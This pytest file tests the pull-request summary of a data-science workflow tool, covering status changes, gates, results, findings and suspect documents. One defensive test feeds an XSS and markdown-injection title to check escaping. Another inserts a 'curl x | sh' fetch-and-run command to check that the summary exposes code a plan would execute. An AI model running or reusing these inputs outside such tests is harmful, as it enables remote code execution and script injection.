"""The summary of a pull request, on real branches."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from iterata.repository import config
from iterata.review.changes import compare
from iterata.review.review import review
from iterata.review.summary import summary
from iterata.stages import Status

if TYPE_CHECKING:
    from .team import Team

EXAMPLE = Path(__file__).parents[3] / "projects" / "caravan-policies"
ASSESSMENT = "projects/churn/01-setup/assessment.md"


def summarised(team: Team, base: str = "main") -> str:
    with compare(config.load(team.root), base) as comparison:
        return summary(comparison, review(comparison, team.root))


def section(text: str, title: str) -> str:
    return text.split(f"## {title}\n\n", 1)[1].split("\n## ", 1)[0]


def test_it_says_what_moves_and_what_stands_in_the_way(team: Team) -> None:
    team.document("churn/01-setup/assessment.md", Status.DRAFT)
    team.commit()
    with team.pull_request():
        team.change(ASSESSMENT, "status: draft", "status: in_review")
    text = summarised(team)
    assert "draft → in_review" in section(text, "Status changes")
    assert "**GATE004** `lift`: the expected lift is not computed" in section(text, "Next gates")
    assert "(data science: `iterata lift churn/01-setup`)" in text, "a command can be copied"


def test_it_is_the_same_every_time(team: Team) -> None:
    with team.pull_request():
        team.document("churn/01-setup/assessment.md")
        team.document("pricing/requirements.md")
    assert summarised(team) == summarised(team)


def test_it_says_when_there_is_nothing_to_say(team: Team) -> None:
    with team.pull_request():
        team.write("README.md", "a readme\n")
    assert summarised(team) == "No stage document is changed.\n"


def test_words_of_a_document_stay_words(team: Team) -> None:
    """A title can neither open a tag, nor a link, nor a column, nor a section of its own."""
    hostile = "<img src=x onerror=alert(1)> [a](javascript:b) | ## c `d`\\n\\n## e"
    with team.pull_request():
        path = team.document("churn/01-setup/assessment.md")
        team.change(path, "title: Technical needs assessment", f'title: "{hostile}"')
    row = next(line for line in summarised(team).splitlines() if "onerror" in line)
    assert "&lt;img src=x" in row
    assert r"\[a\](javascript:b)" in row
    assert r"\|" in row
    assert summarised(team).count("\n## ") == summarised(team).count("\n\n## ")
    assert "\n## e" not in summarised(team)


def test_it_shows_the_lift_the_results_and_what_was_learned(team: Team) -> None:
    with team.pull_request():
        place = team.root / "projects" / "caravan-policies"
        shutil.copytree(EXAMPLE, place, ignore=shutil.ignore_patterns("data"))
        result = place / "01-setup/results/experiment.json"
        result.write_text(result.read_text("utf-8").replace('"holds": true', '"holds": false', 1), "utf-8")
    text = summarised(team)
    assert "potential lift" in section(text, "Expected lift")
    results = section(text, "Results")
    assert "| caravan-policies/01-setup: policies sold (policies per mailing) |" in results
    assert "| status quo " in results
    assert results.count("- **Guardrail violated:** letters to older areas, by logistic, postcode") == 1
    assert re.search(
        r"- \*\*H1\*\* is \*\*inconclusive\*\*: .* to \+15.4\); required: at least \+10\)", results
    )
    assert "**negative**" in section(text, "Findings")


def test_it_remembers_what_was_tried(team: Team) -> None:
    report = team.document("churn/01-setup/report.md")
    team.change(
        report,
        "statement: 'What was learned",
        "statement: 'Purchases depend on age, and not What was learned",
    )
    team.commit("a finding")
    with team.pull_request():
        path = team.document("churn/02-age/proposal.md")
        team.change(path, "claim: 'What is believed", "claim: 'Purchases depend on age; What is believed")
    assert "`churn/01-setup#F1`" in section(summarised(team), "Have we tried this?")


@pytest.mark.parametrize("claim", ["Purchases depend on the weather of the day before", "xyz"])
def test_it_does_not_remember_what_was_not(team: Team, claim: str) -> None:
    team.document("churn/01-setup/report.md")
    team.commit("a finding")
    with team.pull_request():
        path = team.document("churn/02-age/proposal.md")
        before = next(line for line in team.read(path).splitlines() if "claim:" in line)
        team.change(path, before, f"{before.split('claim:')[0]}claim: {claim}")
    assert "Have we tried this?" not in summarised(team)


def test_it_names_what_became_suspect(team: Team) -> None:
    path = team.document("churn/01-setup/assessment.md", Status.APPROVED)
    digest = "sha256:" + "0" * 64
    team.change(path, "status: approved", f"written_against: {{requirements: '{digest}'}}\nstatus: approved")
    team.commit()
    with team.pull_request():
        team.document("pricing/requirements.md")
    assert "`projects/churn/requirements.md` has changed since" in section(
        summarised(team), "Suspect documents"
    )


def test_it_says_which_code_a_plan_would_run(team: Team) -> None:
    """Approving a plan lets its code be run; whoever reviews it need not look for it."""
    path = "projects/churn/01-setup/proposal.md"
    boosted = "estimator: sklearn.ensemble.HistGradientBoostingClassifier"
    with team.pull_request():
        team.document("churn/01-setup/proposal.md")
        team.change(path, boosted, "producer: command\n      command: [sh, -c, curl x | sh]")
    told = section(summarised(team), "Code that a run would execute")
    assert "sh -c" in told
    assert "in projects/churn, at most 60 minutes a fold" in told
